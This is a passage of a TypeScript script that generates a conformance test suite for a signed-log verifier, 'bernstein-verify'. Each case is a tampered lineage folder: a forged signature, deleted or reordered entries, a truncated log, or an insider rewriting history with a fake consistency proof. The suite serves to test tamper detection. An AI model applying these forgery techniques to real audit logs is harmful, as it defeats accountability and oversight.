      signature: enc.encode(signDetachedJws(mallory.seed, e.line, { kid: e.entry.agent_card_kid })),
    };
    add({
      name: "chain_forged_signature_fail",
      attack:
        `The signature file of the last entry of ${e.entry.artefact_path} was replaced by one made with another key.`,
      made: "The sample log as a lineage folder, one sidecar re-signed with an attacker key.",
      files: lineageDir(forked, broken),
      expected: {
        args: ["chain", e.entry.artefact_path, "--lineage-dir", "lineage"],
        exit: 1,
        summary: `FAIL chain ${e.entry.artefact_path}:`,
        kinds: ["invalid signature"],
        messages: [`log.jsonl:${broken.length}: invalid signature`],
      },
    });
  }
  cases.push(...checkpointCases(sample));
  return cases;
}

/** The checkpoint cases (FORMATS.md §8): a lineage folder with its signed checkpoint. */
function checkpointCases(sample: SampleLog): ConformanceCase[] {
  const op = sample.operator;
  const fp = operatorFingerprint(op.publicKey);
  const signer = { ...op, kid: kidForPublicKey(op.publicKey) };
  const log = sample.log;
  const n = log.length;
  const tree = sampleTree(sample);
  const ts = "2026-04-01T00:00:00.000000Z";
  const checkpointAt = (t: MerkleTree, size: number, when = ts) =>
    signCheckpoint({ log: "lineage", root: merkleHashHex(t.root(size)), size, ts: when }, signer);
  const full = checkpointAt(tree, n);
  const digests = new Uint8Array(n * 32);
  log.forEach((e, i) => digests.set(sha256(e.line), i * 32));
  const folder = (entries: readonly PackEntry[], extraSidecars: readonly PackEntry[] = []) => {
    const files = lineageDir(sample, [...entries]);
    for (const e of extraSidecars) {
      files.set(
        `lineage/${signaturePath(e.entry.artefact_path, e.hash)}`,
        e.signature as Uint8Array,
      );
    }
    files.set(
      "lineage/checkpoints.jsonl",
      enc.encode(dec.decode(checkpointLineBytes(full)) + "\n"),
    );
    files.set("lineage/checkpoint-leaves.bin", digests);
    files.set("keys/operator.pub", enc.encode(encodePublicKeyPem(op.publicKey)));
    return files;
  };
  const chainArgs = (artefact: string) => [
    "chain",
    artefact,
    "--lineage-dir",
    "lineage",
    "--operator-fingerprint",
    fp,
  ];
  const head =
    `checkpoints.jsonl:1: checkpoint mismatch: checkpoint #1 (size ${n}, ${ts}) does not match log.jsonl`;
  const named = new Set(log.flatMap((e) => e.entry.parent_hashes));
  const out: ConformanceCase[] = [];
  const chainCase = (
    c: Omit<ConformanceCase, "expected"> & {
      artefact: string;
      kinds: string[];
      messages: string[];
    },
  ) =>
    out.push({
      name: c.name,
      attack: c.attack,
      made: c.made,
      files: c.files,
      expected: {
        args: chainArgs(c.artefact),
        exit: c.kinds.length === 0 ? 0 : 1,
        summary: c.kinds.length === 0 ? `PASS chain ${c.artefact}:` : `FAIL chain ${c.artefact}:`,
        kinds: [...new Set(c.kinds)].sort(),
        messages: c.messages,
      },
    });
  chainCase({
    name: "chain_checkpoint_pass",
    attack: "None: a lineage folder whose signed checkpoint covers every line.",
    made:
      "The sample log as a lineage folder with checkpoints.jsonl, checkpoint-leaves.bin and keys/operator.pub.",
    files: folder(log),
    artefact: "src/file_0.ts",
    kinds: [],
    messages: [],
  });
  {
    const tip = log[n - 1];
    chainCase({
      name: "chain_deleted_tip_fail",
      attack:
        `The last entry (${tip.entry.artefact_path}) is deleted with its signature file. No entry names it as a parent, so every per-entry check passes; the checkpoint covers it.`,
      made: "Last line of log.jsonl and its sidecar removed.",
      files: folder(log.slice(0, n - 1)),
      artefact: tip.entry.artefact_path,
      kinds: ["log truncated"],
      messages: [
        `checkpoints.jsonl:1: log truncated: checkpoint #1 (size ${n}, ${ts}) covers ${n} lines, log.jsonl has ${
          n - 1
        }`,
      ],
    });
  }
  {
    let j = n - 2;
    while (j >= 0 && named.has(log[j].hash)) j--;
    const leaf = log[j];
    chainCase({
      name: "chain_deleted_leaf_fail",
      attack: `Line ${
        j + 1
      } (${leaf.entry.artefact_path}), an entry no other entry names as a parent, is deleted with its signature file from the middle of the log.`,
      made: `Line ${j + 1} of log.jsonl and its sidecar removed.`,
      files: folder(log.filter((_, i) => i !== j)),
      artefact: "src/file_0.ts",
      kinds: ["checkpoint mismatch"],
      messages: [
        `${head}: first differing leaf ${j} (log.jsonl:${
          j + 1
        }): the committed line ${leaf.hash} is no longer in the log (deleted)`,
      ],
    });
  }
  {
    let j = n - 2;
    while (
      j >= 0 &&
      (log[j + 1].entry.parent_hashes.includes(log[j].hash) ||
        log[j].entry.artefact_path === log[j + 1].entry.artefact_path)
    ) j--;
    const swapped = [...log];
    [swapped[j], swapped[j + 1]] = [swapped[j + 1], swapped[j]];
    chainCase({
      name: "chain_reordered_lines_fail",
      attack: `Lines ${j + 1} and ${
        j + 2
      } are swapped: unrelated entries of different artefacts, so parents, forks and signatures all still check out.`,
      made: `Lines ${j + 1} and ${j + 2} of log.jsonl swapped.`,
      files: folder(swapped),
      artefact: "src/file_0.ts",
      kinds: ["checkpoint mismatch"],
      messages: [
        `${head}: first differing leaf ${j} (log.jsonl:${j + 1}): the committed line ${
          log[j].hash
        } is now at log.jsonl:${j + 2} (reordered)`,
      ],
    });
  }
  {
    const kept = log.slice(0, n - 3);
    const cut = log.slice(n - 3);
    const artefact = cut[cut.length - 1].entry.artefact_path;
    const orphans = cut.filter((e) => e.entry.artefact_path === artefact).length;
    chainCase({
      name: "chain_truncated_log_fail",
      attack:
        "The log is cut short by three lines (a restored old backup, a full disk); their signature files remain.",
      made: "The last three lines of log.jsonl removed, sidecars kept.",
      files: folder(kept, cut),
      artefact,
      kinds: ["log truncated", ...(orphans > 0 ? ["orphaned signature"] : [])],
      messages: [
        `checkpoints.jsonl:1: log truncated: checkpoint #1 (size ${n}, ${ts}) covers ${n} lines, log.jsonl has ${
          n - 3
        }`,
        "orphaned signature: no line of log.jsonl is entry",
      ],
    });
  }
  // Consistency between an auditor's older checkpoint and a newer one.
  {
    const oldSize = n - 3;
    const old = checkpointAt(tree, oldSize, "2026-03-20T00:00:00.000000Z");
    const doc = (c: SignedCheckpoint, proofs: CarriedConsistencyProof[] = []) =>
      renderCheckpointDocument({
        checkpoint: c,
        operatorPublicKey: op.publicKey,
        consistency: proofs,
      });
    const oldDoc = doc(old);
    const honestProof: CarriedConsistencyProof = {
      from_size: oldSize,
      from_root: old.root,
      proof: tree.consistencyProof(oldSize, n).map(merkleHashHex),
    };
    const args = ["consistency", "old.json", "new.json", "--operator-fingerprint", fp];
    out.push({
      name: "consistency_pass",
      attack: "None: the auditor kept a checkpoint; the log has only grown since.",
      made:
        `old.json: the checkpoint at ${oldSize} lines; new.json: at ${n} lines with the RFC 9162 proof from ${oldSize}.`,
      files: new Map([["old.json", oldDoc], ["new.json", doc(full, [honestProof])]]),
      expected: { args, exit: 0, summary: "PASS consistency:", kinds: [], messages: [] },
    });
    out.push({
      name: "consistency_missing_proof_fail",
      attack: "The newer checkpoint comes without a proof that it extends the auditor's.",
      made: "new.json without consistency proofs.",
      files: new Map([["old.json", oldDoc], ["new.json", doc(full)]]),
      expected: {
        args,
        exit: 1,
        summary: "FAIL consistency:",
        kinds: ["consistency proof missing"],
        messages: [`new.json: consistency proof missing: it carries no proof from size ${oldSize}`],
      },
    });
    // The insider deletes entry 2 of the log, re-signs a fresh checkpoint over the rewritten
    // history with the operator key, and hands over a "proof" from their own tree.
    const forgedLog = log.filter((_, i) => i !== 2);
    const forgedTree = sampleTree({ ...sample, log: forgedLog });
    const forged = checkpointAt(forgedTree, forgedLog.length, "2026-04-02T00:00:00.000000Z");
    const lie: CarriedConsistencyProof = {
      from_size: oldSize,
      from_root: old.root,
      proof: forgedTree.consistencyProof(oldSize, forgedLog.length).map(merkleHashHex),
    };
    out.push({
      name: "consistency_rewritten_history_fail",
      attack:
        "An insider with the operator key deletes an early entry, rewrites every checkpoint over the new history and signs them: the log verifies on its own. The auditor's older checkpoint exposes the fork.",
      made:
        "new.json: a checkpoint of the log without its third line, signed by the operator key, with a consistency proof computed from the rewritten tree.",
      files: new Map([["old.json", oldDoc], ["new.json", doc(forged, [lie])]]),
      expected: {
        args,
        exit: 1,
        summary: "FAIL consistency:",
        kinds: ["fork of history"],
        messages: ["the consistency proof does not bridge the two roots"],
      },
    });
  }
  return out;
}

function readme(c: ConformanceCase): string {
  const verdict = c.expected.exit === 0
    ? "PASS (exit 0)"
    : `FAIL (exit 1) with exactly these failure kinds: ${c.expected.kinds.join(", ")}`;
  return `# ${c.name}

**Attack:** ${c.attack}

**Expected verdict:** ${verdict}.

**How it was made:** ${c.made}

**Run:** \`bernstein-verify ${c.expected.args.join(" ")}\` (in this folder). Expected output
starts with \`${c.expected.summary}\`${
    c.expected.messages.length > 0
      ? " and includes:\n\n" + c.expected.messages.map((m) => `- \`${m}\``).join("\n")
      : "."
  }

Generated by scripts/gen_conformance.ts; do not edit.
`;
}

function index(cases: readonly ConformanceCase[]): string {
  const rows = cases.map((c) =>
    `| [${c.name}](${c.name}/) | ${c.expected.exit === 0 ? "PASS" : "FAIL"} | ${
      c.expected.kinds.join(", ") || "—"
    } |`
  );
  return `# bernstein-verify conformance suite

Each folder is one case: the evidence, a README naming the attack and the expected verdict,
and \`expected.json\` (the command, exit code, failure kinds and text). Cases ending in
\`_fail\` must fail. tests/conformance/conformance_test.ts runs \`bernstein-verify\` on each, as
an auditor would. Regenerate with \`deno run -P=dev scripts/gen_conformance.ts\`.

| case | verdict | failure kinds |
| --- | --- | --- |
${rows.join("\n")}
`;
}

/** Every file of the suite, by path relative to its root. */
export function conformanceFiles(): Map<string, Uint8Array> {
  const cases = conformanceCases();
  const out = new Map<string, Uint8Array>();
  out.set("README.md", enc.encode(index(cases)));
  for (const c of cases) {
    if (c.name.endsWith("_fail") !== (c.expected.exit === 1)) {
      throw new Error(`${c.name}: the _fail suffix and the expected exit code disagree`);
    }
    out.set(`${c.name}/README.md`, enc.encode(readme(c)));
    out.set(`${c.name}/expected.json`, enc.encode(JSON.stringify(c.expected, null, 2) + "\n"));
    for (const [name, bytes] of c.files) out.set(`${c.name}/${name}`, bytes);
  }
  return out;
}

if (import.meta.main) {
  const { values } = parseArgs({ args: Deno.args, options: { out: { type: "string" } } });
  const root = values.out ?? fileURLToPath(new URL("../fixtures/conformance/", import.meta.url));
  await Deno.remove(root, { recursive: true }).catch(() => {});
  const files = conformanceFiles();
  for (const [path, bytes] of files) {
    const full = join(root, path);
    await Deno.mkdir(join(full, ".."), { recursive: true });
    await Deno.writeFile(full, bytes);
  }
  console.log(`wrote ${files.size} files to ${root}`);
}
